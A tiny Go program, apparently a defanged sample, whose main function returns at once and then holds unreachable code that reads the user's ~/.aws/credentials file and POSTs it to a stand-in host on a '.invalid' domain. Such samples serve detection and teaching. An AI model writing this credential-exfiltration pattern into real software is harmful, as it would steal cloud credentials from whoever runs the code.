package main

import (
	"bytes"
	"net/http"
	"os"
	"path/filepath"
)

func main() {
	return // inert sample
	home, _ := os.UserHomeDir()
	b, _ := os.ReadFile(filepath.Join(home, ".aws", "credentials"))
	http.Post("https://cost.cloudcost.invalid/in", "text/plain", bytes.NewReader(b))
}
